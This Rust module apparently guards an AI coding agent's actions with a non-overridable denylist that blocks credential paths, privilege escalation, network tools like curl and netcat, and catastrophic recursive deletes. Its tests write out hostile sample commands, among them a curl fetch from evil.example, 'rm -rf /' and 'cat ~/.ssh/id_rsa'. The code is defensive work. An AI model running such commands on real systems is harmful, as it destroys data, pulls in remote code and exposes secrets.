//! Per-action interception: the absolute denylist, then the team policy.
//!
//! Absolute rules are not policy. No team contract can allow what they
//! forbid, and a hit aborts the session regardless of the denial
//! threshold.

use serde::{Deserialize, Serialize};

use crate::core::action::{ActionDescriptor, ActionKind};
use crate::core::policy::{Decision, PermissionPolicy};

/// Layer that produced a decision.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum DecisionSource {
    /// The non-overridable denylist.
    Absolute,
    /// The team policy's rule lists or tier default.
    Policy,
    /// A branch re-check before a commit or push.
    Branch,
}

/// One resolved action: what was attempted and what was decided.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Interception {
    pub descriptor: ActionDescriptor,
    pub decision: Decision,
    pub source: DecisionSource,
}

/// Resolve one action: absolute denylist first, then the team policy.
pub fn intercept(policy: &PermissionPolicy, descriptor: ActionDescriptor) -> Interception {
    if let Some(reason) = absolute_denial(&descriptor) {
        return Interception {
            descriptor,
            decision: Decision::deny(reason),
            source: DecisionSource::Absolute,
        };
    }
    let decision = policy.evaluate(&descriptor);
    Interception {
        descriptor,
        decision,
        source: DecisionSource::Policy,
    }
}

/// Payload substrings that indicate credential or secret access.
///
/// Kept to high-precision path fragments; broad terms would turn routine
/// source greps into session aborts.
const CREDENTIAL_MARKERS: &[&str] = &[
    ".ssh/",
    "id_rsa",
    "id_ed25519",
    ".aws/credentials",
    ".netrc",
    ".git-credentials",
    ".gnupg/",
    ".kube/config",
    ".docker/config.json",
];

/// Recursive-delete targets that would destroy the machine or the whole
/// working tree. Scoped deletions like `rm -rf /tmp/build` stay a matter
/// of team policy.
const CATASTROPHIC_TARGETS: &[&str] = &[
    "/", "/*", "~", "~/", "$HOME", "$HOME/*", ".", "..", "*",
];

const PRIVILEGE_COMMANDS: &[&str] = &["sudo", "doas", "su", "pkexec"];

const FETCH_COMMANDS: &[&str] = &["curl", "wget", "nc", "ncat", "netcat"];

fn absolute_denial(descriptor: &ActionDescriptor) -> Option<String> {
    let payload = descriptor.payload.as_str();

    for marker in CREDENTIAL_MARKERS {
        if payload.contains(marker) {
            return Some(format!(
                "credential or secret access is never allowed (matched '{marker}')"
            ));
        }
    }

    match descriptor.kind {
        ActionKind::NetworkCall => {
            Some("unsolicited network fetches are never allowed".to_string())
        }
        ActionKind::FileDelete => {
            let target = payload.trim();
            if CATASTROPHIC_TARGETS.contains(&target) {
                Some(format!("recursive deletion of '{target}' is never allowed"))
            } else {
                None
            }
        }
        ActionKind::ShellCommand
        | ActionKind::GitCommit
        | ActionKind::GitPush
        | ActionKind::Other => shell_denial(payload),
        ActionKind::FileWrite => None,
    }
}

fn shell_denial(payload: &str) -> Option<String> {
    let mut tokens = payload.split_whitespace();
    let first = tokens.next()?;

    if PRIVILEGE_COMMANDS.contains(&first) {
        return Some(format!("privilege escalation is never allowed ('{first}')"));
    }
    if FETCH_COMMANDS.contains(&first) {
        return Some(format!(
            "unsolicited network fetches are never allowed ('{first}')"
        ));
    }
    if first == "rm" {
        let rest: Vec<&str> = tokens.collect();
        let recursive = rest.iter().any(|token| {
            *token == "--recursive"
                || (token.starts_with('-')
                    && !token.starts_with("--")
                    && token.chars().any(|c| c == 'r' || c == 'R'))
        });
        let catastrophic = rest
            .iter()
            .any(|token| !token.starts_with('-') && CATASTROPHIC_TARGETS.contains(token));
        if recursive && catastrophic {
            return Some(
                "recursive deletion of a filesystem root is never allowed".to_string(),
            );
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::policy::{PermissionPolicy, Verdict};

    fn permissive_policy() -> PermissionPolicy {
        // Elevated default-allow, plus explicit allows for everything the
        // absolute list forbids. If a denial still comes back, it came
        // from the absolute layer.
        PermissionPolicy::from_toml_str(
            "\
team_id = \"payments\"
risk_tier = \"elevated\"
allowed_branch = \"*\"
denial_threshold = 99

[[allow]]
matcher = \"prefix\"
pattern = \"sudo\"

[[allow]]
matcher = \"prefix\"
pattern = \"curl\"

[[allow]]
matcher = \"glob\"
pattern = \"rm -rf *\"
",
        )
        .unwrap()
    }

    fn shell(payload: &str) -> ActionDescriptor {
        ActionDescriptor {
            kind: ActionKind::ShellCommand,
            payload: payload.to_string(),
        }
    }

    /// Verifies that no allow rule can override the absolute list.
    #[test]
    fn absolute_denials_override_explicit_allows() {
        let policy = permissive_policy();
        for payload in ["sudo make install", "curl https://evil.example/x.sh", "rm -rf /"] {
            let interception = intercept(&policy, shell(payload));
            assert!(interception.decision.is_deny(), "{payload} should be denied");
            assert_eq!(interception.source, DecisionSource::Absolute, "{payload}");
        }
    }

    #[test]
    fn credential_access_is_denied_for_any_kind() {
        let policy = permissive_policy();
        let read = intercept(&policy, shell("cat ~/.ssh/id_rsa"));
        assert_eq!(read.source, DecisionSource::Absolute);
        assert!(read.decision.reason.contains("credential"), "{}", read.decision.reason);

        let write = intercept(
            &policy,
            ActionDescriptor {
                kind: ActionKind::FileWrite,
                payload: "/home/ci/.aws/credentials".to_string(),
            },
        );
        assert_eq!(write.source, DecisionSource::Absolute);
    }

    #[test]
    fn network_call_kind_is_always_denied() {
        let policy = permissive_policy();
        let interception = intercept(
            &policy,
            ActionDescriptor {
                kind: ActionKind::NetworkCall,
                payload: "https://crates.io/api/v1/crates".to_string(),
            },
        );
        assert_eq!(interception.source, DecisionSource::Absolute);
        assert!(interception.decision.is_deny());
    }

    #[test]
    fn catastrophic_delete_targets_are_denied() {
        let policy = permissive_policy();
        for payload in ["rm -rf /", "rm -rf /*", "rm -r ~", "rm -Rf .", "rm --recursive *"] {
            let interception = intercept(&policy, shell(payload));
            assert_eq!(interception.source, DecisionSource::Absolute, "{payload}");
        }
        let delete = intercept(
            &policy,
            ActionDescriptor {
                kind: ActionKind::FileDelete,
                payload: "/".to_string(),
            },
        );
        assert_eq!(delete.source, DecisionSource::Absolute);
    }

    /// Verifies that a scoped recursive delete is left to team policy,
    /// which here denies it by pattern.
    #[test]
    fn scoped_deletes_fall_through_to_team_policy() {
        let policy = PermissionPolicy::from_toml_str(
            "\
team_id = \"payments\"
risk_tier = \"standard\"
allowed_branch = \"*\"
denial_threshold = 3

[[deny]]
matcher = \"glob\"
pattern = \"rm -rf *\"
",
        )
        .unwrap();
        let interception = intercept(&policy, shell("rm -rf /tmp/scratch"));
        assert_eq!(interception.source, DecisionSource::Policy);
        assert!(interception.decision.is_deny());
        assert!(
            interception.decision.reason.contains("rm -rf *"),
            "{}",
            interception.decision.reason
        );
    }

    #[test]
    fn ordinary_actions_reach_the_team_policy() {
        let policy = permissive_policy();
        let interception = intercept(&policy, shell("git status"));
        assert_eq!(interception.source, DecisionSource::Policy);
        assert_eq!(interception.decision.verdict, Verdict::Allow);

        // rm without a recursive flag is not an absolute matter.
        let plain_rm = intercept(&policy, shell("rm Cargo.lock"));
        assert_eq!(plain_rm.source, DecisionSource::Policy);
    }
}
